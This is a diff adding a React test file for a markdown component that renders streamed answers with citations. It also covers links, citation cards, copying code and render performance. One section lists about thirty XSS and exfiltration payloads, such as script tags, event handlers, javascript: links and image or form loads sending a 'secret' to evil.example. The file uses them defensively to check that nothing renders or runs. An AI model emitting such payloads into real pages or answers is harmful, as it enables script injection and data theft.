@@ -1,0 +1,211 @@
+import { FluentProvider, webLightTheme } from '@fluentui/react-components';
+import { fireEvent, render, screen, waitFor, within } from '@testing-library/react';
+import { Profiler } from 'react';
+import type { Citation } from '../../../../../api/contract/runs.ts';
+import { sampleCitation } from '../../../testing/samples.ts';
+import { CitationsProvider } from '../citations/CitationsContext.ts';
+import { AnswerMarkdown } from './AnswerMarkdown.tsx';
+
+const openLink = jest.fn();
+const openInViewer = jest.fn();
+jest.mock('../../../shell/links.ts', () => ({ openLink: (address: string) => openLink(address) }));
+jest.mock('../../workspace/workspace.actions.ts', () => ({ openInViewer: (target: unknown) => openInViewer(target) }));
+
+function answer(text: string, streaming = false, links: Citation[] = []) {
+  return (
+    <FluentProvider theme={webLightTheme}>
+      <CitationsProvider value={links}>
+        <AnswerMarkdown text={text} streaming={streaming} numbers={links.map((link) => link.number)} />
+      </CitationsProvider>
+    </FluentProvider>
+  );
+}
+
+const payloads = [
+  '<script>window.hit=1</script>',
+  '<img src=x onerror="window.hit=1">',
+  '<img src="https://evil.example/pixel?q=secret">',
+  '![secret](https://evil.example/pixel?q=secret)',
+  '![secret][ref]\n\n[ref]: https://evil.example/pixel',
+  '![](//evil.example/pixel)',
+  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj4=)',
+  '[a](javascript:window.hit=1)',
+  '[a](JaVaScRiPt:window.hit=1)',
+  '[a](java\tscript:window.hit=1)',
+  '[a](&#106;avascript:window.hit=1)',
+  '[a](vbscript:msgbox)',
+  '[a](data:text/html,<script>window.hit=1</script>)',
+  '<javascript:window.hit=1>',
+  '[a]: javascript:window.hit=1\n\n[a]',
+  '<iframe src="https://evil.example"></iframe>',
+  '<svg onload="window.hit=1"><use href="https://evil.example/x.svg#a"/></svg>',
+  '<a href="javascript:window.hit=1" onclick="window.hit=1">x</a>',
+  '<form action="https://evil.example"><input name=q><button>go</button></form>',
+  '<style>body{background:url(https://evil.example/x)}</style>',
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  '<object data="https://evil.example"></object><embed src="https://evil.example">',
+  '<video src="https://evil.example/v" autoplay></video><audio src="https://evil.example/a"></audio>',
+  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<details open ontoggle="window.hit=1">x</details>',
+  '`<img src=x onerror=window.hit=1>` and <b onmouseover=window.hit=1>b</b>',
+  '| a |\n| - |\n| <img src=https://evil.example/t> ![t](https://evil.example/t) |',
+  '[![x](https://evil.example/in)](https://evil.example/out)',
+  '[1]: javascript:window.hit=1 "t"\n\nSee [1].',
+  '<x-cite data-number="1">1</x-cite><cite data-number="1" onclick="window.hit=1">1</cite>',
+];
+
+const loading =
+  'img, script, iframe, svg[onload], video, audio, source, object, embed, link, style, form, base, meta, input[name]';
+
+/** What in a page would load something, run something, or lead somewhere it must not. */
+function dangersIn(root: HTMLElement): string[] {
+  const dangers = [...root.querySelectorAll(loading)].map((element) => element.outerHTML);
+  for (const element of root.querySelectorAll('*')) {
+    for (const { name, value } of element.attributes) {
+      if (name.startsWith('on') || name === 'src' || name === 'srcset' || name === 'action')
+        dangers.push(`${name}=${value}`);
+      if (name === 'href' && !/^(https?:|mailto:|#)/i.test(value)) dangers.push(`${name}=${value}`);
+      if (name === 'style' && value.includes('url(')) dangers.push(`${name}=${value}`);
+    }
+  }
+  return dangers;
+}
+
+describe('what a document could have slipped in', () => {
+  it.each(payloads)('%s does nothing, at no moment of its arrival', (payload) => {
+    const text = `See [1].\n\n${payload}\n\nend`;
+    const { container, rerender } = render(answer('', true));
+    for (let length = 1; length <= text.length; length += 1) {
+      rerender(answer(text.slice(0, length), true, [sampleCitation()]));
+      expect(dangersIn(container)).toEqual([]);
+    }
+    rerender(answer(text, false, [sampleCitation()]));
+    expect(dangersIn(container)).toEqual([]);
+    expect(window).not.toHaveProperty('hit');
+  });
+});
+
+describe('links and images', () => {
+  it('says the host of a link and opens it outside', () => {
+    render(answer('Read [the policy](https://northwind.example/policy).'));
+    const link = screen.getByRole('link', { name: 'the policy' });
+    expect(link.parentElement).toHaveTextContent('Read the policy (northwind.example).');
+    fireEvent.click(link);
+    expect(openLink).toHaveBeenCalledWith('https://northwind.example/policy');
+  });
+
+  it('says the host too where the words name another one, and not twice where they name it', () => {
+    render(answer('[https://bank.example](https://evil.example) and https://northwind.example/a'));
+    expect(screen.getByText('(evil.example)')).toBeInTheDocument();
+    expect(screen.queryByText('(northwind.example)')).not.toBeInTheDocument();
+  });
+
+  it('shows an image as a link with its host', () => {
+    render(answer('![A chart](https://charts.example/c.png)'));
+    expect(screen.getByRole('link')).toHaveTextContent('A chart (Image from charts.example, not loaded)');
+  });
+});
+
+describe('citations', () => {
+  const links = [sampleCitation(), sampleCitation({ number: 2, standing: 'changed' })];
+
+  it('makes a button of each number that has a source, and of no other', () => {
+    render(answer('Economy [1], changed [2], made up [7], `code [1]`.', false, links));
+    expect(screen.getAllByRole('button', { name: /^Source/ }).map((each) => each.textContent)).toEqual(['1', '2']);
+    expect(screen.getByText(/made up \[7\]/)).toBeInTheDocument();
+    expect(screen.getByText('code [1]')).toBeInTheDocument();
+  });
+
+  it('is not turned into a link by a definition of the same name', () => {
+    render(answer('See [1].\n\n[1]: https://evil.example', false, links));
+    expect(screen.queryByRole('link')).not.toBeInTheDocument();
+    expect(screen.getByRole('button', { name: 'Source 1: Travel policy.pdf' })).toBeInTheDocument();
+  });
+
+  it('shows its card on focus and opens the file at its passage', async () => {
+    render(answer('Economy [1].', false, links));
+    fireEvent.focus(screen.getByRole('button', { name: 'Source 1: Travel policy.pdf' }));
+    const card = await screen.findByRole('group', { name: 'Source 1: Travel policy.pdf' });
+    for (const words of [
+      'Travel policy.pdf',
+      'page 3 · Finance',
+      /Economy class is booked/,
+      'Last modified Oct 1, 2025',
+    ])
+      expect(within(card).getByText(words)).toBeInTheDocument();
+    fireEvent.click(within(card).getByRole('button', { name: 'Open' }));
+    expect(openInViewer).toHaveBeenCalledWith(expect.objectContaining({ fileName: 'Travel policy.pdf', page: 3 }));
+    await waitFor(() => expect(card).not.toBeInTheDocument());
+  });
+
+  it('goes into its card with a click and closes with Escape', async () => {
+    render(answer('Economy [1].', false, links));
+    fireEvent.click(screen.getByRole('button', { name: 'Source 1: Travel policy.pdf' }));
+    const open = await screen.findByRole('button', { name: 'Open' });
+    expect(open).toHaveFocus();
+    fireEvent.keyDown(open, { key: 'Escape' });
+    await waitFor(() => expect(open).not.toBeInTheDocument());
+  });
+
+  it('says in words what is wrong with a source, and does not offer to open what is denied', async () => {
+    render(answer('Secret [1].', false, [sampleCitation({ standing: 'denied', quote: '' })]));
+    fireEvent.click(screen.getByRole('button', { name: 'Source 1: Travel policy.pdf' }));
+    expect(await screen.findByText('You may not open this file.')).toBeInTheDocument();
+    expect(screen.queryByRole('button', { name: 'Open' })).not.toBeInTheDocument();
+  });
+});
+
+describe('text', () => {
+  it('draws the same while it arrives as when it is whole', () => {
+    const text =
+      '## Costs\n\nA **bold** word.\n\n- one\n- two\n\n```ts\nconst x = 1;\n```\n\n| a | b |\n| - | - |\n| 1 | 2 |';
+    const plain = (root: HTMLElement) => root.innerHTML.replace(/>\s+</g, '><').replace(/_r_\w+_|\br\w*:\w+/g, '');
+    const whole = render(answer(text));
+    const arriving = render(answer('', true));
+    for (let at = 5; at < text.length + 5; at += 5) arriving.rerender(answer(text.slice(0, at), true));
+    expect(plain(arriving.container)).toBe(plain(whole.container));
+  });
+
+  it('resolves references across blocks once it is whole', () => {
+    const text = 'See [the policy][p].\n\nMore.\n\n[p]: https://northwind.example/p';
+    const { rerender } = render(answer(text, true));
+    expect(screen.queryByRole('link')).not.toBeInTheDocument();
+    rerender(answer(text));
+    expect(screen.getByRole('link', { name: 'the policy' })).toBeInTheDocument();
+  });
+
+  it('lets right-to-left text find its own direction and keeps code left to right', () => {
+    render(answer('שלום עולם\n\n```\nx = 1\n```'));
+    expect(screen.getByText('שלום עולם')).toHaveAttribute('dir', 'auto');
+    expect(screen.getByText('x = 1').closest('[dir]')).toHaveAttribute('dir', 'ltr');
+  });
+
+  it('copies code and shows a check mark', async () => {
+    const writeText = jest.fn(() => Promise.resolve());
+    Object.defineProperty(navigator, 'clipboard', { configurable: true, value: { writeText } });
+    render(answer('```ts\nconst x = 1;\n```'));
+    fireEvent.click(screen.getByRole('button', { name: 'Copy code' }));
+    expect(await screen.findByRole('button', { name: 'Copied!' })).toBeInTheDocument();
+    expect(writeText).toHaveBeenCalledWith('const x = 1;');
+  });
+
+  it('costs a long answer a small part of what drawing all of it each time would', () => {
+    const paragraph = 'Some **bold** words with a [link](https://northwind.example) and `code`.\n\n';
+    const text = paragraph.repeat(30);
+    const pieces = 120;
+    const arrive = (streaming: boolean) => {
+      let spent = 0;
+      const shown = (at: number) => (
+        <Profiler id="answer" onRender={(_, __, duration) => (spent += duration)}>
+          {answer(text.slice(0, Math.ceil((text.length * at) / pieces)), streaming)}
+        </Profiler>
+      );
+      const { rerender, unmount } = render(shown(1));
+      for (let at = 2; at <= pieces; at += 1) rerender(shown(at));
+      unmount();
+      return spent;
+    };
+    arrive(true);
+    expect(arrive(true)).toBeLessThan(arrive(false) / 4);
+  });
+});
